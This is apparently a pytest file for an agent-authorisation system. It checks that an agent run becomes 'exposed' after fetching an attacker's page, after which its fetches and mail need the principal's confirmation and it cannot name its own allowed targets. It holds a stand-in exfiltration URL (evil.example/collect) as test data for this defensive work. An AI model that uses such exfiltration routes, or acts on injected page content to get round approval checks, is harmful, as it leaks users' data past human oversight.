"""Provenance on a live cluster (docs/provenance.md), through the SDK: a run that read a
page nobody vouches for sends its next read of an unknown URL and its mail to a known
colleague to the principal's card, a clean run sends them directly, a delegate acting in
the exposed run is exposed too, and the run's own targets, named by its principal (never
by the agent), run directly."""

from __future__ import annotations

import pytest

from quorumgate.proto.clusterfile import ClusterSpec
from quorumgate.sdk.builders import mandate, tool_rules, tool_spec
from quorumgate.sdk.client import Refused
from quorumgate.sdk.sync import SyncClient
from tests.support.cluster import new_agent, new_principal

PAGE = "https://evil.example/post"
EXFIL = "https://evil.example/collect?d=x"
REPORT = "https://docs.example.com/report"
BOB = "mailto:bob@corp.example"
RULES = [
    tool_rules(
        "mail.send", [{"set": "colleagues", "mode": "direct", "when_exposed": "user_confirm"}]
    ),
    tool_rules("web.fetch", [{"any": True, "when_exposed": "user_confirm"}]),
]


def test_what_a_run_has_read_decides_what_it_may_send(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    assert cluster.authority_version >= 4  # `init` writes the latest
    owner.register_tool(tool_spec("web.fetch", "read", schemes=["https"], untrusted_results=True))
    owner.register_tool(
        tool_spec("mail.send", "user_confirm", schemes=["mailto"], min_tier="delegate")
    )
    person_id, person_key = new_principal(owner)
    agent_id, agent_key = new_agent(owner, None, principal=person_id)
    helper_id, helper_key = new_agent(owner, None, principal=person_id)
    for each in (agent_id, helper_id):
        owner.set_mandate(
            each,
            mandate(["mail.send", "web.fetch"], delegation_policy="attenuated", rules=RULES),
        )
        owner.set_entries(each, "colleagues", [tool_rules("x", [{"exact": BOB}]).targets[0]])
    with (
        SyncClient(cluster, agent_key) as agent,
        SyncClient(cluster, helper_key) as helper,
        SyncClient(cluster, person_key) as person,
    ):
        # a clean run: both calls run directly
        assert agent.propose("mail.send", BOB, run_id="clean").outcome.value == "allow"
        assert agent.propose("web.fetch", EXFIL, run_id="clean").outcome.value == "allow"
        # another run reads the attacker's page, and is exposed from there
        read = agent.propose("web.fetch", PAGE, run_id="task")
        assert read.outcome.value == "allow"
        exfil = agent.propose("web.fetch", EXFIL, run_id="task")
        assert exfil.pending and exfil.card is not None
        assert exfil.card.exposed_by == (read.height, "web.fetch")
        mail = agent.propose("mail.send", BOB, run_id="task")
        assert mail.pending and mail.card is not None
        [open_card] = [c for c in person.pending() if c.proposal_id == mail.proposal_id]
        assert f"since tool web.fetch at height {read.height}" in open_card.render()
        # a delegate in the exposed run is exposed too
        grant = agent.delegate(bytes(helper_key.verify_key), "task", ["mail.send"])
        assert helper.propose("mail.send", BOB, run_id=grant.run_id, grant=grant).pending
        # the agent cannot name its own run's targets; its principal can
        run = agent.run_of("task")
        assert run is not None
        with pytest.raises(Refused) as refused:
            agent.set_run_targets(agent_id, run, [REPORT, BOB])
        assert refused.value.reason in ("not_owner", "not_an_agent")
        named = person.set_run_targets(agent_id, run, [BOB, REPORT])
        assert named.outcome.value == "applied"
        assert agent.propose("web.fetch", REPORT, run_id="task").outcome.value == "allow"
        assert agent.propose("mail.send", BOB, run_id="task").outcome.value == "allow"
        assert agent.propose("web.fetch", EXFIL, run_id="task").pending
